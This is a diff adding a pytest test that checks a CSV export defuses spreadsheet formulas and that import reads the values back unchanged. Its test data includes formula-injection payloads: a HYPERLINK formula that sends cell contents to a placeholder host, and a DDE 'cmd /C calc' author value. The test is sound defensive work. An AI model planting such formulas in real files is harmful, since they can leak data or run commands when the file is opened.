@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import csv
 import hashlib
+import io
 import json
 
 import pytest
@@ -584,3 +586,71 @@ def test_metadata_an_annotation_file_cannot_hold_is_reported_with_its_line(here)
         'labels.csv:3: the cell "rating.metadata" is not JSON '
         '(hint: write a JSON object like {"source": "..."})'
     )
+
+
+# CSV exports and spreadsheet formulas -------------------------------------------------------
+
+FORMULAS = """\
+version: 1
+definitions:
+  note: {type: text}
+  score: {type: range, min: -1, max: 1}
+"""
+HOSTILE = [
+    '=HYPERLINK("http://example.invalid/?"&A1,"click")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A2)",
+    "\tTAB",
+    "'already quoted",
+    "plain",
+]
+
+
+@pytest.mark.parametrize("raw", [False, True], ids=["neutralized", "raw"])
+def test_csv_export_defuses_formulas_unless_raw_and_import_reads_both_back(
+    make_project, monkeypatch, raw
+):
+    spans = "".join(
+        f"  - trace_id: t1\n    span_id: s{n}\n    annotations: {{note: {json.dumps(text)}, "
+        f"score: {-0.5 if n % 2 else 0.25}}}\n"
+        for n, text in enumerate(HOSTILE)
+    )
+    project = make_project(
+        definitions=FORMULAS, **{"annotations/a.yaml": "version: 1\nspans:\n" + spans}
+    )
+    monkeypatch.chdir(project.root)
+    applied = project.run("apply", "--auto-approve", "--author", "=cmd|' /C calc'!A0")
+    assert applied.exit_code == 0, applied.output
+    before = labels_of(project)
+    args = ["export", "--format", "csv", "--out", "labels.csv"] + (["--raw"] if raw else [])
+    assert project.run(*args).exit_code == 0
+    text = (project.root / "labels.csv").read_text(encoding="utf-8")
+    manifest = json.loads(text.splitlines()[0][2:])["manifest"]
+    assert manifest["formulas"] == ("raw" if raw else "neutralized")
+    rows = list(csv.reader(io.StringIO("\n".join(text.splitlines()[1:]))))
+    header, body = rows[0], rows[1:]
+    notes = [row[header.index("note")] for row in body]
+    authors = {row[header.index("note.author")] for row in body}
+    scores = [row[header.index("score")] for row in body]
+    if raw:
+        assert notes == HOSTILE and authors == {"=cmd|' /C calc'!A0"}
+    else:
+        assert notes == ["'" + t if t[0] in "=+-@\t'" else t for t in HOSTILE]
+        assert authors == {"'=cmd|' /C calc'!A0"}
+        assert all(
+            not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
+            for row in body
+            for cell in row
+            if cell not in scores
+        )
+    assert "-0.5" in scores  # numbers are written as numbers, never defused
+    # JSONL stays as it is
+    jsonl_text = project.run("export").stdout
+    assert json.dumps(HOSTILE[0]) in jsonl_text
+    # import reads the export back to the same values
+    (project.root / "annotations" / "a.yaml").unlink()
+    (project.root / ".orqsync" / "state.json").unlink()
+    result = project.run("import", "labels.csv")
+    assert result.exit_code == 0, result.output
+    assert labels_of(project) == before
